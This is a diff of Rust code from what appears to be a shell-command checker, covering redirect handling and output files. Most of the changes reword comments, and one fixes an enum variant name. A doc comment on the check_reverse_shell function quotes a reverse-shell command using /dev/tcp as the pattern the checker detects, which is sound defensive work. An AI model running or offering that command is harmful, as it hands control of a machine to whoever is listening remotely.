@@ -11,7 +11,7 @@ use crate::{programs, rules};
 pub(crate) struct OutputFile {
     target: String,
     append: bool,
-    /// The normal output, not only the errors.
+    /// Standard output, not only standard error.
     stdout: bool,
 }
 
@@ -40,11 +40,11 @@ impl Evaluator<'_> {
                     continue;
                 }
                 (RedirectTarget::Word(word), op) => {
-                    // More than one word is an error to the shell, but not before it was thought of here.
+                    // The shell rejects more than one word here, but only after expanding them.
                     let targets = self.fields(state, word);
                     if op != RedirectOp::Read {
                         let stdout = matches!(redirect.fd, None | Some(1));
-                        let append = op != RedirectOp::WriteKind;
+                        let append = op != RedirectOp::Write;
                         let files = targets.iter().cloned();
                         outputs.extend(files.map(|target| OutputFile { target, append, stdout }));
                     }
@@ -69,7 +69,7 @@ impl Evaluator<'_> {
         (input, outputs)
     }
 
-    /// `bash -i >& /dev/tcp/host/80`: whoever is at the other end holds the shell.
+    /// `bash -i >& /dev/tcp/host/80`: whoever is at the other end controls the shell.
     pub(crate) fn check_reverse_shell(
         &mut self,
         state: &ShellState,
@@ -82,7 +82,7 @@ impl Evaluator<'_> {
         }
     }
 
-    /// Judges the files that take `out`; returns what is left for the next in the pipe.
+    /// Judges the files that receive `out`; returns what is left for the next command in the pipe.
     pub(crate) fn outputs(
         &mut self,
         state: &mut ShellState,
@@ -98,7 +98,7 @@ impl Evaluator<'_> {
                 Stream::None => no_command,
                 Stream::Data(_) => false,
             };
-            // What goes to the pipe by another name goes to the pipe.
+            // Another name for the pipe itself.
             if matches!(output.target.as_str(), "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1") {
                 continue;
             }
